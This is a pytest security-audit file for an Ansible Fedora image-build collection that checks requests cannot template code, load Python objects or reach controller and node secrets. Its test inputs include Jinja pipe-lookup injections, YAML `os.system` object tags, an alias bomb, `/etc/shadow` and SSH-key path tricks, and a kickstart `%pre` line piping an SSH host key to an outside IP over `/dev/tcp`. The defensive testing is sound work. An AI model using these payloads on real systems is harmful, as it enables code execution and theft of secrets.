# -*- coding: utf-8 -*-
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Issue 13, "Done when": no secret or node file is reachable from a request (adversarial audit).

Each test is one promise of docs/security.md ("Trust model", "Input") that no other test covered, tried the
way a requester would: through the CLI's path into ansible-playbook, the AWX surveys' path (awx_build.yml with
the answers tagged ``!unsafe`` as AWX writes them), or the request validator. The strict ``xfail`` tests are
holes the audit found whose fix belongs to the request validator (``module_utils/request_checks.py``) and
``roles/build/tasks/kickstart.yml``; fixing one turns its test red until the marker goes.
"""

from __future__ import annotations

import json
import os
import sys

import pytest

from support.ansible_run import REPO, run_playbook

from ansible_collections.ondemand.fedora_build.plugins.module_utils import request, request_args
from ansible_collections.ondemand.fedora_build.plugins.module_utils.errors import FedoraBuildError

CLI = REPO / 'collection' / 'cli'
if str(CLI) not in sys.path:
    sys.path.insert(0, str(CLI))

from fedora_build_cli import errors as cli_errors, main as cli_main, secrets_channel  # noqa: E402  pylint: disable=wrong-import-position

VALIDATE = 'Validate every request (all problems at once)'
# no build node: the playbook stops in "Plan the builds" after validation, before any node task
NO_NODES = {'all': {'hosts': {'localhost': {'ansible_connection': 'local',
                                            'ansible_python_interpreter': sys.executable}}},
            'builders': {'hosts': {}}}


def pipe_touch(marker):
    """A Jinja expression that, if ever templated, runs a command on the controller (and leaves ``marker``)."""
    return "{{ lookup('pipe', 'touch %s') }}" % marker


def dvd_request(tmp_path, src):
    return {'image_type': 'dvd', 'release': '41', 'arch': 'x86_64', 'name': 'audit', 'kickstart': {'src': src},
            'staging': ['controller']}


def operator_vars(tmp_path):
    (tmp_path / 'ks').mkdir(exist_ok=True)
    return {'fedora_build_staging_targets': {'controller': {'type': 'local', 'path': str(tmp_path / 'staging')}},
            'fedora_build_status_dir': str(tmp_path / 'staging' / 'status'),
            'fedora_build_kickstart_dirs': [str(tmp_path / 'ks')]}


def run_with_vars_file(tmp_path, playbook, vars_file, extra_vars=None, env=None):
    return run_playbook(str(REPO / 'playbooks' / playbook), inventory=NO_NODES, extra_vars=extra_vars,
                        args=('-e', '@%s' % vars_file), env=env, workdir=tmp_path / 'run')


def test_cli_request_strings_are_never_templated(tmp_path):
    """A request string holding Jinja passes the CLI's validation (an absolute path may hold any printable text)
    and goes to ansible-playbook as an extra var; ansible-playbook templates trusted extra vars, so it would run
    ``lookup('pipe', ...)`` on the controller (code execution as the operator, every secret in reach). The CLI
    sends the request variables' strings in Ansible's unsafe form: the validator gets the literal text.
    Watched failing with the plain json.dumps payload (the marker file was made)."""
    marker = tmp_path / 'templated-on-the-controller'
    settings = operator_vars(tmp_path)
    # a real file in the operator's kickstart directory, the Jinja spread over its path's names
    src = '%s/%s.ks' % (tmp_path / 'ks', pipe_touch(marker))
    os.makedirs(os.path.dirname(src))
    with open(src, 'w') as handle:
        handle.write('lang en_US.UTF-8\n')
    raw = dvd_request(tmp_path, src)
    normalized, problems = request.validate_requests([raw], defaults={
        'arch': 'x86_64', 'staging_targets': settings['fedora_build_staging_targets'],
        'kickstart_dirs': settings['fedora_build_kickstart_dirs']})
    assert problems == [] and normalized[0]['kickstart']['src'] == src  # the CLI submits it as it is
    extravars = dict(operator_vars(tmp_path), fedora_build_requests=[raw])
    vars_file = tmp_path / 'extravars.json'
    vars_file.write_bytes(secrets_channel.extravars_payload(extravars))
    run = run_with_vars_file(tmp_path, 'build.yml', vars_file)
    assert not marker.exists(), 'the request was templated on the controller'
    assert run.result(VALIDATE)['requests'][0]['kickstart']['src'] == src
    # and a following task that uses the validated request keeps it as text too
    indexed = run.result('Index the requests and settle where status records live')['ansible_facts']
    assert [r['kickstart']['src'] for r in indexed['fedora_build_by_id'].values()] == [src]
    # the operator's own -e settings stay trusted (they may be templates)
    assert json.loads(vars_file.read_text())['fedora_build_status_dir'] == str(tmp_path / 'staging' / 'status')


@pytest.mark.xfail(strict=True, reason='Known gap (docs/security.md): ansible-playbook templates trusted extra vars, so '
                                       'a request file given to it directly (-e @request.yml) is Jinja; only the CLI '
                                       'and AWX (ALLOW_JINJA_IN_EXTRA_VARS not "always") mark requests unsafe.')
def test_a_request_given_to_ansible_playbook_directly_is_not_templated(tmp_path):
    marker = tmp_path / 'templated-on-the-controller'
    src = '/srv/ks/%s.ks' % pipe_touch(marker)
    extra = dict(operator_vars(tmp_path), fedora_build_request=dvd_request(tmp_path, src))
    run_playbook(str(REPO / 'playbooks' / 'build.yml'), inventory=NO_NODES, extra_vars=extra,
                 workdir=tmp_path / 'run')
    assert not marker.exists()


AWX_SINGLE = """\
fb_image_type: dvd
fb_release: !unsafe '41'
fb_arch: !unsafe 'x86_64'
fb_name: !unsafe "{name}"
fb_kickstart_url: !unsafe "{src}"
"""
AWX_BATCH = """\
fb_requests: !unsafe |
  - image_type: dvd
    release: '41'
    arch: x86_64
    name: "{name}"
    kickstart: "{src}"
"""


@pytest.mark.parametrize('template', ['single', 'batch'])
def test_awx_survey_answers_are_never_templated(tmp_path, template):
    """AWX writes survey answers with the ``!unsafe`` tag (its default ALLOW_JINJA_IN_EXTRA_VARS "template");
    awx_build.yml turns them into the request with the survey_request / survey_batch filters, and what those
    return is not templated either: Jinja in an answer reaches the validator as text, and nothing runs."""
    marker = tmp_path / 'templated-on-the-controller'
    env_canary = 'canary-9d41c7e2'
    name = "{{ lookup('env', 'FB_AUDIT_CANARY') }}"
    src = '/srv/ks/%s.ks' % pipe_touch(marker)
    text = (AWX_SINGLE if template == 'single' else AWX_BATCH).format(name=name, src=src.replace('"', '\\"'))
    vars_file = tmp_path / 'awx-extravars.yml'
    vars_file.write_text(text)
    run = run_with_vars_file(tmp_path, 'awx_build.yml', vars_file, extra_vars=operator_vars(tmp_path),
                             env={'FB_AUDIT_CANARY': env_canary})
    assert not marker.exists(), 'a survey answer was templated on the controller'
    assert env_canary not in run.stdout + run.stderr
    problems = run.result(VALIDATE)['problems']
    assert problems and problems[0].startswith('requests[0].name: "%s" is not a valid name' % name), problems


AWX_LOGIN = """\
fb_image_type: dvd
fb_release: !unsafe '41'
fb_arch: !unsafe 'x86_64'
fb_name: !unsafe 'login'
fb_kickstart_url: !unsafe 'https://ks.example.org/dvd.ks'
fb_kickstart_user: !unsafe 'alice'
fb_kickstart_password: !unsafe '{password}'
fb_koji_tasks: !unsafe '{tasks}'
"""


AWX_BATCH_LOGIN = """\
fb_requests: !unsafe |
  - image_type: dvd
    release: '41'
    arch: x86_64
    name: login
    kickstart: https://ks.example.org/dvd.ks
    koji: {{tasks: [{tasks}]}}
fb_kickstart_user: !unsafe 'alice'
fb_kickstart_password: !unsafe '{password}'
"""


@pytest.mark.parametrize('template', ['single', 'batch'])
@pytest.mark.parametrize('tasks', ['', '12 abc'])
def test_an_awx_survey_kickstart_password_is_in_no_task_result(tmp_path, tasks, template):
    """The dvd and live surveys ask the kickstart login apart (fb_kickstart_password is a password question, which
    AWX keeps encrypted in the job's extra vars). awx_build.yml puts it into the URL with no_log, and the validated
    request drops it again: at -vvv the password is in no output and no task result (job events), also when another
    answer is wrong, which is still named. Watched failing without the no_log (the "Map the survey answers" result
    held it)."""
    password = 'pw-awx-5e0b-not-for-job-events'
    vars_file = tmp_path / 'awx-extravars.yml'
    if template == 'single':
        vars_file.write_text(AWX_LOGIN.format(password=password, tasks=tasks))
    else:   # the batch: a wrong answer there is the YAML's (a list where a mapping belongs), named by validation
        vars_file.write_text(AWX_BATCH_LOGIN.format(password=password, tasks='12' if not tasks else "'abc'"))
    run = run_playbook(str(REPO / 'playbooks' / 'awx_build.yml'), inventory=NO_NODES, extra_vars=operator_vars(tmp_path),
                       args=('-e', '@%s' % vars_file), verbosity=3, workdir=tmp_path / 'run')
    assert password not in run.stdout + run.stderr
    assert password not in json.dumps([r.result for r in run.results])
    if tasks and template == 'single':
        failed = run.result('Check the survey answers (a kickstart password stands in masked, so a mistake is shown)')
        assert "fb_koji_tasks: 'abc' is not a Koji task ID" in failed['msg'], failed
        return
    if tasks:
        problems = run.result(VALIDATE)['problems']
        assert problems and problems[0].startswith('requests[0].koji.tasks'), problems
        return
    if template == 'single':
        assert run.result('Map the survey answers (fb_*) onto fedora_build_request').get('censored')
    else:
        assert run.result('Read the batch survey answer (fb_requests) as fedora_build_requests').get('censored')
    validated = run.result(VALIDATE)
    assert validated['problems'] == [] and validated['requests'][0]['kickstart']['src'] == 'https://ks.example.org/dvd.ks'


def test_cli_request_file_cannot_construct_python_objects(tmp_path, capsys):
    """A YAML tag that would build a Python object (``!!python/object/apply:os.system``) in a request file given
    to the CLI is refused in one sentence; nothing runs."""
    marker = tmp_path / 'ran'
    req = tmp_path / 'request.yml'
    req.write_text('image_type: boot\nrelease: "41"\nname: !!python/object/apply:os.system ["touch %s"]\n' % marker)
    code = cli_main.main(['--status-dir', str(tmp_path / 'status'), 'validate', str(req)])
    err = capsys.readouterr().err
    assert code == cli_errors.FAILED and not marker.exists()
    assert 'python/object' in err and err.count('\n') == 1, err


def ks_defaults(tmp_path, *dirs):
    return {'arch': 'x86_64', 'staging_targets': operator_vars(tmp_path)['fedora_build_staging_targets'],
            'kickstart_dirs': [str(d) for d in dirs]}


def test_a_request_cannot_name_a_controller_file_as_its_kickstart(tmp_path):
    """The controller user's files (its SSH key to the nodes, the project's vault files, AWX's credential files)
    are not the requester's: a request names a kickstart by URL, or by a path inside a directory the operator
    lists for requested kickstarts (fedora_build_kickstart_dirs); any other controller path is refused before
    anything runs, and without such a directory every path is. Watched failing with _kickstart taking any
    absolute path again."""
    secret = tmp_path / 'home' / '.ssh' / 'id_ed25519'
    secret.parent.mkdir(parents=True)
    secret.write_text('-----BEGIN OPENSSH PRIVATE KEY-----\n')
    normalized, problems = request.validate_requests(
        [dvd_request(tmp_path, str(secret))],
        defaults={'arch': 'x86_64', 'staging_targets': operator_vars(tmp_path)['fedora_build_staging_targets']})
    assert [p.split(': ', 1)[0] for p in problems] == ['requests[0].kickstart.src'], (problems, normalized)
    assert 'fedora_build_kickstart_dirs' in problems[0] and problems[0].count('. ') == 0, problems
    # with a directory for kickstarts, a file outside it is refused all the same, in one sentence naming it
    spins = tmp_path / 'spins'
    spins.mkdir()
    _normalized, problems = request.validate_requests([dvd_request(tmp_path, str(secret))],
                                                      defaults=ks_defaults(tmp_path, spins))
    assert problems == ["requests[0].kickstart.src: %r is not inside a directory the operator lists for requested "
                        'kickstarts (fedora_build_kickstart_dirs: %s); give a path there or an http, https or ftp URL.'
                        % (str(secret), spins)], problems


def test_a_symlink_in_the_kickstart_directory_cannot_lead_out_of_it(tmp_path):
    """A symlink inside the operator's kickstart directory (or one of its parents in the path) that leads out of
    it is refused without saying where it leads; a symlink that stays inside is kept resolved, so the build reads
    exactly the file that was validated."""
    secret = tmp_path / 'vault.yml'
    secret.write_text('$ANSIBLE_VAULT;1.1;AES256\n')
    spins = tmp_path / 'spins'
    (spins / 'sub').mkdir(parents=True)
    (spins / 'live.ks').write_text('lang en_US.UTF-8\n')
    (spins / 'escape.ks').symlink_to(secret)
    (spins / 'outside').symlink_to(tmp_path)
    (spins / 'sub' / 'alias.ks').symlink_to(spins / 'live.ks')
    for path in (spins / 'escape.ks', spins / 'outside' / 'vault.yml'):
        _normalized, problems = request.validate_requests([dvd_request(tmp_path, str(path))],
                                                          defaults=ks_defaults(tmp_path, spins))
        assert problems == ['requests[0].kickstart.src: %r leads through a symbolic link out of the directories the '
                            'operator lists for requested kickstarts (fedora_build_kickstart_dirs).' % str(path)], problems
    normalized, problems = request.validate_requests([dvd_request(tmp_path, str(spins / 'sub' / 'alias.ks'))],
                                                     defaults=ks_defaults(tmp_path, spins))
    assert problems == [] and normalized[0]['kickstart']['src'] == str(spins / 'live.ks')
    # the directory itself, a missing file, or a FIFO (never opened here) is not a kickstart file
    os.mkfifo(str(spins / 'pipe.ks'))
    for path in (spins / 'sub', spins / 'missing.ks', spins / 'pipe.ks'):
        _normalized, problems = request.validate_requests([dvd_request(tmp_path, str(path))],
                                                          defaults=ks_defaults(tmp_path, spins))
        assert problems == ['requests[0].kickstart.src: %r is not a file on the controller.' % str(path)], problems


def test_the_operator_kickstart_directories_are_checked(tmp_path):
    """A system directory (or /) as a kickstart directory would give the hole back: it is refused, as is a
    directory that does not exist; URL kickstarts need no directory at all."""
    for given, needle in (('/', 'is a system directory'), ('/etc', 'is a system directory'),
                          ('/home', 'is a system directory'), ('relative', 'is not an absolute directory'),
                          (str(tmp_path / 'none'), 'is not a directory on the controller')):
        _normalized, problems = request.validate_requests([dvd_request(tmp_path, 'https://ks.example.org/x.ks')],
                                                          defaults=ks_defaults(tmp_path, given))
        assert len(problems) == 1 and problems[0].startswith('defaults.kickstart_dirs[0]: ') and needle in problems[0], \
            problems
    normalized, problems = request.validate_requests([dvd_request(tmp_path, 'https://ks.example.org/x.ks')],
                                                     defaults=ks_defaults(tmp_path))
    assert problems == [] and normalized[0]['kickstart']['src'] == 'https://ks.example.org/x.ks'


def test_a_request_cannot_name_node_files_as_gpgkeys():
    """Key files are node files: the operator names them (fedora_build_koji_gpgkeys, like kiwi descriptions), a
    request picks a name; a path, or a name the operator did not give, is refused in one sentence listing the
    known names. Watched failing with _gpgkey taking absolute paths again."""
    req = {'image_type': 'boot', 'release': '41', 'arch': 'x86_64', 'staging': [{'type': 'local', 'path': '/s'}],
           'koji': {'builds': ['hello-2.0-1.fc41'], 'gpgkeys': ['/etc/shadow']}}
    dummy, problems = request.validate_requests([req], defaults={'arch': 'x86_64', 'allow_request_destinations': True})
    assert [p.split(': ', 1)[0] for p in problems] == ['requests[0].koji.gpgkeys[0]'], problems
    defaults = {'arch': 'x86_64', 'allow_request_destinations': True,
                'koji_gpgkeys': {'fedora-41': '/etc/pki/rpm-gpg/RPM-GPG-KEY-fedora-41-primary', 'team': '/srv/k.asc'}}
    for given in ('/etc/shadow', 'shadow', '../etc/shadow'):
        req['koji']['gpgkeys'] = [given]
        dummy, problems = request.validate_requests([req], defaults=defaults)
        assert len(problems) == 1 and problems[0].startswith('requests[0].koji.gpgkeys[0]: %r ' % given), problems
    assert problems == ["requests[0].koji.gpgkeys[0]: '../etc/shadow' looks like a path; give the name of one of the "
                        "operator's public keys (fedora_build_koji_gpgkeys), the operator chooses the node files."]
    req['koji']['gpgkeys'] = ['shadow']
    assert request.validate_requests([req], defaults=defaults)[1] == [
        "requests[0].koji.gpgkeys[0]: 'shadow' is not one of the operator's public keys (known: fedora-41, team)."]
    # a known name is kept as a name; only the side repo step turns it into the operator's node path
    req['koji']['gpgkeys'] = ['fedora-41']
    normalized, problems = request.validate_requests([req], defaults=defaults)
    assert problems == [] and normalized[0]['koji']['gpgkeys'] == ['fedora-41']
    args = request_args.side_repo_args(normalized[0], '/w', '/c', {}, {}, defaults['koji_gpgkeys'])
    assert args['gpgkeys'] == ['/etc/pki/rpm-gpg/RPM-GPG-KEY-fedora-41-primary']
    # and the step refuses what is not the operator's even if it got past validation
    for smuggled in (['/etc/shadow'], ['shadow']):
        with pytest.raises(FedoraBuildError) as info:
            request_args.side_repo_args(dict(normalized[0], koji=dict(normalized[0]['koji'], gpgkeys=smuggled)),
                                        '/w', '/c', {}, {}, defaults['koji_gpgkeys'])
        assert info.value.msg == ("koji.gpgkeys[0]: %r is not one of the operator's public keys (known: fedora-41, "
                                  'team).' % smuggled[0])


def billion_laughs(levels=9, width=10):
    lines = ['- image_type: boot', '  release: "41"', '  koji:', '    builds: &l0 ["hello-2.0-1.fc41"]']
    for level in range(1, levels + 1):
        lines.append('    tag_latest_%d: &l%d [%s]' % (level, level, ', '.join(['*l%d' % (level - 1)] * width)))
    return '\n'.join(lines) + '\n'


def test_awx_batch_answer_cannot_expand_into_a_billion_values():
    """The batch survey's answer (65536 characters of a requester's YAML) with nested aliases would expand to
    10**9 values once serialized (module arguments are JSON), exhausting the controller's (the AWX
    execution environment's) memory; survey_batch refuses it in one sentence naming fb_requests, while an
    ordinary alias still works. Watched failing with yaml.safe_load."""
    from ansible.errors import AnsibleFilterError  # pylint: disable=import-outside-toplevel
    from ansible_collections.ondemand.fedora_build.plugins.filter import survey_batch  # pylint: disable=import-outside-toplevel

    text = billion_laughs()
    assert len(text) < 65536
    with pytest.raises(AnsibleFilterError) as info:
        survey_batch._survey_batch(text)  # pylint: disable=protected-access
    assert str(info.value).startswith('fb_requests: aliases expand to more than 100000 values'), str(info.value)
    ok = survey_batch._survey_batch(billion_laughs(levels=1, width=3))  # pylint: disable=protected-access
    assert ok[0]['koji']['tag_latest_1'] == [['hello-2.0-1.fc41']] * 3


def test_cli_request_file_sets_no_operator_variable(tmp_path, capsys):
    """A request file is the requester's: besides the requests, its top-level variables (an attempt to turn on
    request-defined destinations or to define a staging target) are not read, so the request's own staging
    mapping is refused as with no such file."""
    req = tmp_path / 'request.yml'
    req.write_text('fedora_build_allow_request_destinations: true\n'
                   'fedora_build_staging_targets: {mine: {type: local, path: /tmp/mine}}\n'
                   'fedora_build_requests:\n'
                   '  - {image_type: boot, release: "41", arch: x86_64, staging: [{type: local, path: /tmp/mine}]}\n')
    code = cli_main.main(['--status-dir', str(tmp_path / 'status'), 'validate', str(req)])
    err = capsys.readouterr().err
    assert code == cli_errors.FAILED, err
    assert 'requests[0].staging[0]: a request cannot define its own staging target here' in err, err


@pytest.mark.xfail(strict=True, reason='Hole (design): a requested kickstart keeps %pre and %post --nochroot, which '
                                       'livemedia-creator --no-virt (anaconda on the node) runs as root on the build '
                                       'node; chroot %post and RPM scriptlets of request-chosen repos or Koji scratch '
                                       'builds run as root in a chroot too. Needs isolation (a VM per build) or a '
                                       'kickstart module policy; see docs/security.md, Known gaps.')
def test_a_requested_kickstart_runs_no_script_on_the_build_node(tmp_path):
    """The build node's files (SSH host keys, other builds' work and cache on a shared node) are not the requester's:
    a requested kickstart may not carry scripts that run on the node itself. No Koji login is on a node any more
    (test_security_promises.py::test_no_secret_reaches_a_build_node); what stays is the node's integrity."""
    from ansible_collections.ondemand.fedora_build.plugins.module_utils import kickstart as ks  # pylint: disable=import-outside-toplevel
    from ansible_collections.ondemand.fedora_build.plugins.module_utils.errors import FedoraBuildError  # pylint: disable=import-outside-toplevel
    from support.skips import require_module  # pylint: disable=import-outside-toplevel

    require_module('pykickstart')
    src = tmp_path / 'live.ks'
    src.write_text('lang en_US.UTF-8\nkeyboard us\n'
                   '%pre\ncat /etc/ssh/ssh_host_ed25519_key > /dev/tcp/198.51.100.7/80\n%end\n'
                   '%post --nochroot\ncp /etc/ssh/ssh_host_ed25519_key $INSTALL_ROOT/root/\n%end\n')
    with pytest.raises(FedoraBuildError) as info:
        ks.prepare(str(src))
    assert '%pre' in info.value.msg


def test_a_kickstart_url_password_is_in_no_controller_task_result(tmp_path):
    """docs/security.md: credentials in a kickstart URL never appear in results, -vvv output or job events.
    The normalized request keeps the URL without its user:password@ (the kickstart step reads the credential from
    the request as given, test_kickstart_ansible.py). Watched failing with the credential left in the normalized
    request (the password in the "Validate" result and the "Index the requests" set_fact)."""
    password = 'pw-4c1d-not-for-job-events'
    extra = dict(operator_vars(tmp_path), fedora_build_request=dvd_request(
        tmp_path, 'https://alice:%s@ks.example.org/x.ks' % password))
    run = run_playbook(str(REPO / 'playbooks' / 'build.yml'), inventory=NO_NODES, extra_vars=extra, verbosity=1,
                       workdir=tmp_path / 'run')
    assert run.result(VALIDATE)['problems'] == []
    assert password not in run.stdout + run.stderr
    assert password not in json.dumps([r.result for r in run.results])


def test_awx_batch_answer_cannot_construct_python_objects(tmp_path):
    """The batch survey's YAML is read with a safe loader: a tag that would build a Python object is a YAML
    error naming fb_requests, and nothing runs."""
    from ansible.errors import AnsibleFilterError  # pylint: disable=import-outside-toplevel
    from ansible_collections.ondemand.fedora_build.plugins.filter import survey_batch  # pylint: disable=import-outside-toplevel

    marker = tmp_path / 'ran'
    with pytest.raises(AnsibleFilterError) as info:
        survey_batch._survey_batch('- !!python/object/apply:os.system ["touch %s"]\n' % marker)  # pylint: disable=protected-access
    assert str(info.value).startswith('fb_requests: not valid YAML') and not marker.exists(), str(info.value)


# a requester who could answer one of these prompts would choose the operator's settings (extra vars, an inventory
# with other destinations), where the secrets come from (credentials, execution environment), the playbook itself
# (a project branch) or how much of each task result is shown (verbosity)
AWX_PROMPTS = ('ask_variables_on_launch', 'ask_inventory_on_launch', 'ask_credential_on_launch',
               'ask_scm_branch_on_launch', 'ask_execution_environment_on_launch', 'ask_verbosity_on_launch')


def test_awx_job_templates_prompt_for_nothing_but_the_survey():
    """configure.yml turns each of these prompts off explicitly, so re-running it also resets a job template an
    administrator had set to prompt (awx.awx.job_template leaves an option it is not given as it was)."""
    import yaml  # pylint: disable=import-outside-toplevel

    play = yaml.safe_load((REPO / 'collection' / 'awx' / 'configure.yml').read_text())[0]
    templates = [task['awx.awx.job_template'] for task in play['tasks'] if 'awx.awx.job_template' in task]
    assert templates
    for args in templates:
        assert dict((key, args.get(key)) for key in AWX_PROMPTS) == dict.fromkeys(AWX_PROMPTS, False), args
